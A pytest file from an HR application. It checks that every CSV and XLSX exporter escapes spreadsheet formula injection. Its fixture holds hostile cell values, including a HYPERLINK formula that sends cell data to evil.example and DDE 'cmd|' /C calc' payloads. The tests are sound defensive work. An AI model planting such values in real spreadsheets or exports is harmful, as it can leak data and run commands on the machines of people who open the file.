"""Issue 15 item 16: no exported cell is ever run by a spreadsheet (every CSV/XLSX exporter)."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest

from ethics_tui.service import report, sheets, training
from ethics_tui.service import training_stats
from ethics_tui.service.settings import SETTINGS
from ethics_tui.service.staff import STAFF
from ethics_tui.service.staff_io import export_file
from ethics_tui.service.training_docs import write_xlsx

POISON = {
    "prefix": "@",
    "first_name": '=HYPERLINK("http://evil.example/?leak="&A2,"คลิก")',
    "last_name": "+cmd|' /C calc'!A0",
    "position": "  @SUM(1+1)*cmd|' /C calc'!A0",
    "level": "-2+3+cmd|' /C calc'!A0",
    "phone": "\t=1+1",
}


@pytest.fixture
def poisoned(demo_ctx):
    """Records saved before validation existed (or edited by hand): raw values in the file."""
    store = demo_ctx.store
    with store.transaction() as tx:
        doc = dict(store.load()[STAFF]["1"])
        doc.update(POISON)
        tx.put(STAFF, 1, doc)
        settings = dict(store.load()[SETTINGS]["1"])
        settings["office_name"] = "=1+2"
        tx.put(SETTINGS, 1, settings)
    return demo_ctx


@pytest.mark.parametrize(
    "value, dangerous",
    [
        ("=1+1", True),
        ("+1+1", True),
        ("-1+1", True),
        ("@SUM(A1)", True),
        ("\t=1", True),
        ("\r=1", True),
        ("   =1", True),
        ("\u00a0=1", True),
        ("＝1+1", True),
        ("สมชาย", False),
        ("-", False),
        ("-5", False),
        ("+66", False),
        ("1,234.50", False),
        ("a=b", False),
        ("", False),
    ],
)
def test_what_counts_as_a_formula(value, dangerous):
    assert sheets.is_dangerous(value) is dangerous


def _assert_xlsx_is_inert(path, needles):
    from openpyxl import load_workbook

    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", zf.read(name)), f"formula in {name}"
    seen = set()
    for ws in load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and sheets.is_dangerous(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                    seen.add(cell.value)
    for needle in needles:  # the text itself survives unchanged
        assert needle in seen, needle


def test_staff_export_xlsx(poisoned, tmp_path):
    export_file(poisoned, tmp_path / "s.xlsx")
    _assert_xlsx_is_inert(tmp_path / "s.xlsx", [POISON["first_name"], POISON["last_name"], POISON["phone"]])


def test_staff_export_csv(poisoned, tmp_path):
    export_file(poisoned, tmp_path / "s.csv")
    rows = list(csv.reader(io.StringIO((tmp_path / "s.csv").read_text(encoding="utf-8-sig"))))
    cells = [c for r in rows for c in r]
    for value in POISON.values():
        assert value not in cells and "'" + value in cells
    assert not any(sheets.is_dangerous(c) for c in cells)


def test_report_xlsx(poisoned, tmp_path):
    hr = poisoned
    out = report.export_xlsx(hr, report.default_fy(), tmp_path / "r.xlsx")
    _assert_xlsx_is_inert(out, ["=1+2"])


def test_training_xlsx(poisoned, tmp_path):
    fy = training.fiscal_years(poisoned)[-1]
    out = write_xlsx(poisoned, fy, tmp_path / "t.xlsx")
    names = [n for r in training_stats.stats(poisoned, fy).never_selected for n in r if POISON["first_name"] in str(n)]
    assert names and sheets.is_dangerous(names[0])  # the poisoned name is in the export
    _assert_xlsx_is_inert(out, names[:1])
